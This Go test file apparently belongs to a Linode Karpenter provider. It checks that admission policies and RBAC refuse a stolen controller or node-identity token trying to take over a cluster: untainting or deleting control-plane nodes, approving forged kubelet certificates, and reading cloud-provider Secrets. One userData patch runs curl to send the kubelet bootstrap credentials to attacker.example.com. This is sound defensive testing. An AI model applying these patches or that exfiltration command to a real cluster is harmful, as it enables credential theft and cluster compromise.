package charts_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"testing"

	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	karpv1 "sigs.k8s.io/karpenter/pkg/apis/v1"

	v1 "github.com/linode/karpenter-provider-linode/pkg/apis/v1"
	"github.com/linode/karpenter-provider-linode/pkg/providers/instance/bootstraptoken"
	"github.com/linode/karpenter-provider-linode/pkg/test"
)

// controlPlaneNode is the control-plane node nodeAttacks registers, as kubeadm marks one.
const controlPlaneNode = "cp-1"

// nodeAttacks tries, holding the controller's token, to bring pods onto a control-plane node,
// take it out of the cluster, or steer traffic through a Node's addresses, with the rights on
// Nodes Karpenter core's RBAC gives; core's own changes to the nodes of its NodePools still
// succeed.
func nodeAttacks(ctx context.Context, t *testing.T, admin, stolen client.Client) {
	controlPlane := &corev1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: controlPlaneNode, Labels: map[string]string{"node-role.kubernetes.io/control-plane": ""}},
		Spec:       corev1.NodeSpec{Taints: []corev1.Taint{{Key: "node-role.kubernetes.io/control-plane", Effect: corev1.TaintEffectNoSchedule}}},
	}
	karpenterNode := &corev1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: "default-abcde", Labels: map[string]string{karpv1.NodePoolLabelKey: "default"}},
		Spec:       corev1.NodeSpec{ProviderID: "linode://1", Taints: []corev1.Taint{karpv1.UnregisteredNoExecuteTaint}},
	}
	for _, node := range []*corev1.Node{controlPlane, karpenterNode} {
		if err := admin.Create(ctx, node); err != nil {
			t.Fatal(err)
		}
	}
	awaitPolicies(t, func() bool {
		patch := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"dry-run":"true"}}}`))
		return refusedByPolicy(stolen.Patch(ctx, controlPlane.DeepCopy(), patch, client.DryRunAll))
	})
	for _, attack := range []struct {
		name  string
		node  *corev1.Node
		patch string
	}{
		{"remove a control-plane node's taint, so that any pod may run there", controlPlane, `{"spec":{"taints":null}}`},
		{"put a control-plane node into a NodePool", controlPlane, `{"metadata":{"labels":{"karpenter.sh/nodepool":"default"}}}`},
		{"relabel a control-plane node", controlPlane, `{"metadata":{"labels":{"node-role.kubernetes.io/control-plane":null}}}`},
		{"cordon a Karpenter node", karpenterNode, `{"spec":{"unschedulable":true}}`},
	} {
		t.Run("Node: "+attack.name, func(t *testing.T) {
			expectRefused(t, stolen.Patch(ctx, attack.node.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(attack.patch))), byPolicy)
		})
	}
	for _, node := range []*corev1.Node{controlPlane, karpenterNode} {
		t.Run("Node: rewrite the addresses of "+node.Name, func(t *testing.T) {
			patch := client.RawPatch(types.MergePatchType, []byte(`{"status":{"addresses":[{"type":"InternalIP","address":"203.0.113.7"}]}}`))
			expectRefused(t, stolen.Status().Patch(ctx, node.DeepCopy(), patch), byRBAC)
		})
	}
	t.Run("Node: delete a control-plane node", func(t *testing.T) {
		expectRefused(t, stolen.Delete(ctx, controlPlane.DeepCopy()), byPolicy)
	})
	t.Run("Node: register a Node", func(t *testing.T) {
		expectRefused(t, stolen.Create(ctx, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "made-up"}}), byRBAC)
	})
	t.Run("Node: core registers, disrupts and deletes a node of its NodePool", func(t *testing.T) {
		node := &corev1.Node{}
		if err := stolen.Get(ctx, client.ObjectKeyFromObject(karpenterNode), node); err != nil {
			t.Fatal(err)
		}
		stored := node.DeepCopy()
		node.Labels[karpv1.NodeRegisteredLabelKey] = "true"
		node.Annotations = map[string]string{karpv1.NodePoolHashAnnotationKey: "1234"}
		node.Finalizers = []string{karpv1.TerminationFinalizer}
		node.OwnerReferences = []metav1.OwnerReference{{APIVersion: "karpenter.sh/v1", Kind: "NodeClaim", Name: "default-abcde", UID: "00000000-0000-0000-0000-000000000002"}}
		node.Spec.Taints = []corev1.Taint{karpv1.DisruptedNoScheduleTaint}
		if err := stolen.Patch(ctx, node, client.MergeFromWithOptions(stored, client.MergeFromWithOptimisticLock{})); err != nil {
			t.Fatal(err)
		}
		if err := stolen.Delete(ctx, node); err != nil {
			t.Fatal(err)
		}
		stored = node.DeepCopy()
		node.Finalizers = nil
		if err := stolen.Patch(ctx, node, client.StrategicMergeFrom(stored)); err != nil {
			t.Fatal(err)
		}
	})
}

// nodeClassAttacks tries, holding the controller's token, to change what every new node of a
// LinodeNodeClass runs; the controller's own writes to classes still succeed.
func nodeClassAttacks(ctx context.Context, t *testing.T, admin, stolen client.Client) {
	nodeClass := test.LinodeNodeClass(v1.LinodeNodeClass{
		ObjectMeta: metav1.ObjectMeta{Name: "payments"},
		Spec:       v1.LinodeNodeClassSpec{Image: new("linode/ubuntu24.04"), UserData: new("#cloud-config\nruncmd: [[echo, ready]]\n")},
	})
	if err := admin.Create(ctx, nodeClass); err != nil {
		t.Fatal(err)
	}
	awaitPolicies(t, func() bool {
		patch := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"dry-run":"true"}}}`))
		return refusedByPolicy(stolen.Patch(ctx, nodeClass.DeepCopy(), patch, client.DryRunAll))
	})
	for _, attack := range []struct{ name, patch string }{
		{"run its own commands as root on every new node", `{"spec":{"userData":"#cloud-config\nruncmd: [[curl, -d, \"@/etc/kubernetes/bootstrap-kubelet.conf\", \"https://attacker.example.com\"]]\n"}}`},
		{"launch new nodes from another image", `{"spec":{"image":"private/12345"}}`},
		{"relabel the class", `{"metadata":{"labels":{"team":"attacker"}}}`},
		{"hand the class to the garbage collector", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"00000000-0000-0000-0000-000000000000"}]}}`},
	} {
		t.Run("LinodeNodeClass: "+attack.name, func(t *testing.T) {
			expectRefused(t, stolen.Patch(ctx, nodeClass.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(attack.patch))), byPolicy)
		})
	}
	t.Run("LinodeNodeClass: the controller keeps its finalizer and status, and rewrites it unchanged", func(t *testing.T) {
		current := &v1.LinodeNodeClass{}
		if err := stolen.Get(ctx, client.ObjectKeyFromObject(nodeClass), current); err != nil {
			t.Fatal(err)
		}
		stored := current.DeepCopy()
		current.Finalizers = []string{v1.TerminationFinalizer}
		if err := stolen.Patch(ctx, current, client.MergeFromWithOptions(stored, client.MergeFromWithOptimisticLock{})); err != nil {
			t.Fatal(err)
		}
		stored = current.DeepCopy()
		current.StatusConditions().SetTrue(v1.ConditionTypeImageReady)
		current.Status.Image = &v1.ResolvedImage{ID: "linode/ubuntu24.04"}
		if err := stolen.Status().Patch(ctx, current, client.MergeFromWithOptions(stored, client.MergeFromWithOptimisticLock{})); err != nil {
			t.Fatal(err)
		}
		if err := stolen.Update(ctx, current); err != nil {
			t.Fatal(err)
		}
		stored = current.DeepCopy()
		current.Finalizers = nil
		if err := stolen.Patch(ctx, current, client.MergeFromWithOptions(stored, client.MergeFromWithOptimisticLock{})); err != nil {
			t.Fatal(err)
		}
	})
}

// nodeIdentityAttacks holds a token of the node identity component's ServiceAccount, as a thief
// who stole it would, and tries to reach other credentials with the Secrets it may write, to mint
// a token that outlives a launch, or to approve a certificate no token of the provider asked for.
func nodeIdentityAttacks(ctx context.Context, t *testing.T, admin *rest.Config, adminClient, identity client.Client, nodeClaim *karpv1.NodeClaim, ccm *corev1.Secret) {
	for _, attack := range tokenAttacks(nodeClaim) {
		t.Run("node identity: create a bootstrap token "+attack.name, func(t *testing.T) {
			expectRefused(t, identity.Create(ctx, attack.secret), byPolicy)
		})
	}
	t.Run("node identity: create a service account token Secret", func(t *testing.T) {
		expectRefused(t, identity.Create(ctx, serviceAccountToken("identity-steals")), byPolicy)
	})
	t.Run("node identity: read the CCM's Linode token", func(t *testing.T) {
		expectRefused(t, identity.Get(ctx, client.ObjectKeyFromObject(ccm), &corev1.Secret{}), byRBAC)
	})
	t.Run("node identity: list the Secrets of kube-system", func(t *testing.T) {
		expectRefused(t, identity.List(ctx, &corev1.SecretList{}, client.InNamespace("kube-system")), byRBAC)
	})
	t.Run("node identity: delete the CCM's Linode token", func(t *testing.T) {
		expectRefused(t, identity.Delete(ctx, ccm.DeepCopy()), byPolicy)
	})
	t.Run("node identity: approve a certificate an administrator asked for, for a control-plane node", func(t *testing.T) {
		csr := kubeletCertificateRequest(ctx, t, adminClient, "system:node:"+controlPlaneNode)
		expectRefused(t, approve(ctx, identity, csr), byPolicy)
	})
	t.Run("node identity: approve a certificate a kubeadm bootstrap token asked for", func(t *testing.T) {
		// kubeadm lets its tokens' group ask for node certificates.
		kubeadm := &rbacv1.ClusterRoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "kubeadm:kubelet-bootstrap"},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "system:node-bootstrapper"},
			Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "system:bootstrappers:kubeadm:default-node-token"}},
		}
		if err := adminClient.Create(ctx, kubeadm); err != nil {
			t.Fatal(err)
		}
		asKubeadmToken := rest.CopyConfig(admin)
		asKubeadmToken.Impersonate = rest.ImpersonationConfig{UserName: "system:bootstrap:abcdef", Groups: []string{"system:bootstrappers", "system:bootstrappers:kubeadm:default-node-token"}}
		csr := kubeletCertificateRequest(ctx, t, clientFor(t, asKubeadmToken), "system:node:"+controlPlaneNode)
		expectRefused(t, approve(ctx, identity, csr), byPolicy)
	})
	t.Run("node identity: approves a certificate a token of the provider asked for", func(t *testing.T) {
		asToken := rest.CopyConfig(admin)
		// The policy holds the approval to the requester's group, whatever its token id.
		asToken.Impersonate = rest.ImpersonationConfig{UserName: "system:bootstrap:k4rp3n", Groups: []string{"system:bootstrappers", bootstraptoken.Group}}
		csr := kubeletCertificateRequest(ctx, t, clientFor(t, asToken), "system:node:"+nodeClaim.Name)
		if err := approve(ctx, identity, csr); err != nil {
			t.Fatal(err)
		}
	})
}

func clientFor(t *testing.T, config *rest.Config) client.Client {
	t.Helper()
	c, err := client.New(config, client.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// kubeletCertificateRequest makes, with c, a request for a kubelet client certificate of the
// common name, as a kubelet asks for one.
func kubeletCertificateRequest(ctx context.Context, t *testing.T, c client.Client, commonName string) *certificatesv1.CertificateSigningRequest {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: commonName, Organization: []string{"system:nodes"}}}, key)
	if err != nil {
		t.Fatal(err)
	}
	csr := &certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "csr-"},
		Spec: certificatesv1.CertificateSigningRequestSpec{
			Request:    pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}),
			SignerName: certificatesv1.KubeAPIServerClientKubeletSignerName,
			Usages:     []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth},
		},
	}
	if err := c.Create(ctx, csr); err != nil {
		t.Fatal(err)
	}
	return csr
}

// approve approves the request with c, as an approver does.
func approve(ctx context.Context, c client.Client, csr *certificatesv1.CertificateSigningRequest) error {
	csr = csr.DeepCopy()
	csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{
		Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "Attacker", Message: "approved with a stolen token",
	})
	return c.SubResource("approval").Update(ctx, csr)
}
